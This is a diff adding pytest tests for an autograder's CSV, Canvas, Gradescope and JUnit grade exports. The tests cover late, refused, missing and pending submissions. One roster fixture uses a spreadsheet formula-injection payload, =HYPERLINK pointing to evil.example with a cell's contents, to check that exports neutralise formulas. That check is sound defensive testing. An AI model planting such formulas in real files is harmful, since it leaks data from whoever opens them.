@@ -6,19 +6,26 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import hashlib
 import io
 import json
 import xml.etree.ElementTree as ET
 
 import click
 import pytest
+from click.testing import CliRunner
 from test_finals import DUE, TWO, record
 
 from grader import load_course
 from grader.cli_class import export_cmd
 from grader.errors import GraderError
-from grader.gradebook import Gradebook
+from grader.execute.records import Executed, StepOutcome
+from grader.gradebook import Gradebook, Graded
 from grader.gradebook_exports import DEFAULT_OUT, FORMATS, export
+from grader.intake import Submission
+from grader.report.exports import FORMULA_START
+from grader.results import ExerciseResult, GradeResult
+from grader.roster import Student, save_roster
 
 
 @pytest.fixture
@@ -44,7 +51,8 @@ def test_csv_to_its_default_file_or_as_text(graded, tmp_path):
         ("bob", "0.8", "0"),  # bob handed no a2 in: a row all the same
     ]
     text = export(course, gb, "csv", ["a1"], "-")
-    assert text.target is None and text.text.splitlines()[0].startswith("student,t-num,score")
+    head = text.text.splitlines()[0]
+    assert text.target is None and head.startswith("student,name,email,status,t-num,score")
     assert text.text == export(course, gb, "csv", ["a1"], tmp_path / "a1.csv").target.read_text()
 
 
@@ -87,3 +95,164 @@ def test_an_unknown_format_is_an_error_and_the_cli_offers_every_format(graded):
     option = next(p for p in export_cmd.params if p.name == "format_")
     assert isinstance(option.type, click.Choice)
     assert tuple(option.type.choices) == FORMATS
+
+
+# --- what a spreadsheet and an LMS read: names, statuses, Canvas, refused files kept --------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+ROSTER = (
+    Student("alice", HYPERLINK, "+alice@example.org"),
+    Student("bob", "Bob B", "bob@example.org"),
+    Student("carol", "Carol C", "carol@example.org"),
+    Student("dave", "Dave D", "dave@example.org"),  # hands nothing in
+    Student("erin", "Erin E", "erin@example.org"),
+)
+A2_LATER = TWO.replace("due: 2030-02-28", "due: 2099-02-28")  # not due when the CLI runs
+BEFORE_A2 = DUE + dt.timedelta(days=10)  # a1 is due, a2 is not
+AFTER_A2 = dt.datetime(2100, 1, 1, tzinfo=dt.timezone.utc)
+
+
+def awaiting(gb, course, student, when=DUE):
+    """An attempt at a1 whose answer awaits a person's review."""
+    ex = course.exercises["t-num"]
+    result = GradeResult(
+        course.name, "a1", f"{student}.ipynb", 0.0, 0.0, 0.1,
+        (ExerciseResult("t-num", ex.title, ex.points, 0.0, "awaiting review"),),
+    )  # fmt: skip
+    sha = hashlib.sha256(f"{student}/awaiting".encode()).hexdigest()
+    run = Graded(result, Executed((StepOutcome("ok"),), {}), course.fingerprint, "run")
+    gb.record(Submission(student, f"{student}.ipynb", None, sha, 10, when), "a1", run)
+
+
+@pytest.fixture
+def klass(write_course, tmp_path, monkeypatch):
+    """The two-assignment course with a roster of five, and a1 handed in five ways: alice
+    on time (as Canvas names the file), bob 30 hours late, carol a corrupt file, dave not
+    at all, erin an answer awaiting review. Nobody handed a2 in."""
+    monkeypatch.chdir(tmp_path)
+    course = load_course(write_course(tmp_path, course=A2_LATER))
+    save_roster(tmp_path / "release", ROSTER, b"a secret")
+    gb = Gradebook(tmp_path / "gb.db")
+    record(gb, course, "alice", "a1", source="alice_4711_99_a1.ipynb")
+    record(gb, course, "bob", "a1", DUE + dt.timedelta(hours=30), share=0.5)
+    reason = "not a notebook (the file is not valid JSON)"
+    gb.record(Submission("carol", "carol.ipynb", submitted_at=DUE), "a1", reason)
+    awaiting(gb, course, "erin")
+    # fay, not on the roster, handed in a corrupt file of no assignment that could be told
+    gb.record(Submission("fay", "fay.ipynb", submitted_at=DUE), "", "not a notebook (empty)")
+    yield course, gb
+    gb.close()
+
+
+def test_the_csv_reads_back_with_names_emails_and_statuses(klass):
+    course, gb = klass
+    done = export(course, gb, "csv", out="-", now=BEFORE_A2)
+    reader = csv.DictReader(io.StringIO(done.text))
+    per_assignment = ["status", "t-num", "reviews", "score", "late hours", "late penalty"]
+    per_assignment += ["final", "max", "awaiting review"]
+    # named "a1 ...": the course has two assignments, whichever are due
+    assert reader.fieldnames == ["student", "name", "email"] + [f"a1 {c}" for c in per_assignment]
+    rows = {r["student"]: {k.removeprefix("a1 "): v for k, v in r.items()} for r in reader}
+    assert {s: r["status"] for s, r in rows.items()} == {
+        "alice": "graded",
+        "bob": "late",
+        "carol": "refused: not a notebook (the file is not valid JSON)",
+        "dave": "not submitted",  # on the roster only
+        "erin": "awaiting review",
+        "fay": "refused: not a notebook (empty); which assignment it was for could not be told",
+    }
+    assert [rows["bob"][k] for k in ("name", "email", "t-num", "late hours", "final")] == [
+        "Bob B", "bob@example.org", "1", "30", "0.8",
+    ]  # fmt: skip
+    # nothing graded: no exercise score to give, and 0 as the final, which status explains
+    assert [rows["carol"][k] for k in ("t-num", "score", "final", "max")] == ["", "0", "0", "2"]
+    erin = rows["erin"]
+    assert (erin["t-num"], erin["max"], erin["awaiting review"]) == ("awaiting review", "0", "2")
+    # a roster's text is never a formula: the cell starts with a quote
+    alice = rows["alice"]
+    assert (alice["name"], alice["email"]) == ("'" + HYPERLINK, "'+alice@example.org")
+    assert not any(c.startswith(FORMULA_START) for r in rows.values() for c in r.values())
+    # a2 is not due and nobody handed it in: no column gives everyone 0, and a note says so
+    assert done.notes == (
+        "left out, not due yet and nothing handed in: a2 (due 2099-02-28 23:59 UTC) "
+        "(--assignment exports one all the same)",
+    )
+    later = export(course, gb, "csv", out="-", now=AFTER_A2)
+    assert later.notes == () and "a2 status" in later.text.splitlines()[0]
+    asked = export(course, gb, "csv", ["a2"], out="-", now=BEFORE_A2)
+    assert asked.notes == () and asked.text.startswith("student,name,email,status,t-arr,")
+    a2 = {r["student"]: r["status"] for r in csv.DictReader(io.StringIO(asked.text))}
+    assert a2.pop("fay").startswith("refused: not a notebook (empty); which assignment")
+    assert set(a2.values()) == {"not submitted"}
+
+
+def test_the_canvas_file_has_canvas_columns_points_possible_and_only_numbers(klass):
+    course, gb = klass
+    done = export(course, gb, "canvas", out="-", now=BEFORE_A2)
+    rows = list(csv.reader(io.StringIO(done.text)))
+    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "First"]
+    assert rows[1] == ["Points Possible", "", "", "", "", "2"]
+    assert rows[2:] == [
+        ["'" + HYPERLINK, "4711", "alice", "'+alice@example.org", "", "2"],
+        ["Bob B", "", "bob", "bob@example.org", "", "0.8"],
+        ["Carol C", "", "carol", "carol@example.org", "", "0"],
+        ["Dave D", "", "dave", "dave@example.org", "", "0"],
+        ["Erin E", "", "erin", "erin@example.org", "", ""],  # awaiting review: left empty
+        ["fay", "", "fay", "", "", "0"],
+    ]
+    for row in rows[2:]:
+        assert row[5] == "" or float(row[5]) >= 0
+    assert not any(c.startswith(FORMULA_START) for row in rows for c in row)
+    assert done.notes[0].startswith("left out, not due yet and nothing handed in: a2 (due")
+    assert done.notes[1].startswith("Canvas: 1 grade left empty, awaiting review")
+    assert done.notes[1].endswith(": erin (a1)")
+    assert done.notes[2] == (
+        "Canvas: 0 for 2 students whose every file was refused (the grades CSV's status says "
+        "why): carol (a1), fay (a1)"
+    )
+    later = export(course, gb, "canvas", out="-", now=AFTER_A2)
+    rows = list(csv.reader(io.StringIO(later.text)))
+    assert (rows[0][5:], rows[1][5:], rows[3][5:]) == (
+        ["First", "Second"],
+        ["2", "3"],
+        ["0.8", "0"],
+    )
+    assert export(course, gb, "canvas").target == DEFAULT_OUT["canvas"]
+
+
+def test_gradescope_and_junit_keep_a_refused_student(klass, tmp_path):
+    course, gb = klass
+    done = export(course, gb, "gradescope", out=tmp_path / "gs", now=BEFORE_A2)
+    assert [p.name for p in done.target.iterdir()] == ["a1"]  # a folder an assignment, as ever
+    folder = done.target / "a1"
+    assert sorted(p.name for p in folder.iterdir()) == [
+        "alice.results.json", "bob.results.json", "carol.results.json", "erin.results.json",
+    ]  # fmt: skip
+    carol = json.loads((folder / "carol.results.json").read_text())
+    assert (carol["score"], carol["max_score"]) == (0, 2)
+    assert "Not graded: not a notebook (the file is not valid JSON)" in carol["output"]
+    assert [(t["score"], t["max_score"], t["status"]) for t in carol["tests"]] == [(0, 2, "failed")]
+    assert "the submission was refused (not a notebook" in carol["tests"][0]["output"]
+
+    target = export(course, gb, "junit", out=tmp_path / "g.xml", now=BEFORE_A2).target
+    suites = {
+        s.find("properties/property[@name='student']").get("value"): s
+        for s in ET.parse(target).getroot().findall("testsuite")
+    }
+    assert sorted(suites) == ["alice", "bob", "carol", "erin"]
+    assert suites["carol"].get("name") == "carol.ipynb" and suites["carol"].get("errors") == "1"
+    error = suites["carol"].find("testcase/error")
+    assert "refused (not a notebook (the file is not valid JSON))" in error.get("message")
+
+
+def test_the_cli_says_what_was_left_out_on_stderr(klass):
+    course, _ = klass
+    out = CliRunner().invoke(
+        export_cmd,
+        ["--course", str(course.path), "--db", "gb.db", "--format", "canvas", "--out", "-"],
+    )
+    assert out.exit_code == 0, out.output
+    lines = out.stderr.splitlines()
+    assert lines[0].startswith("left out, not due yet and nothing handed in: a2 (due 2099-02-28")
+    assert lines[1].startswith("Canvas: 1 grade left empty, awaiting review")
+    assert out.stdout.startswith("Student,ID,SIS User ID,SIS Login ID,Section,First\n")
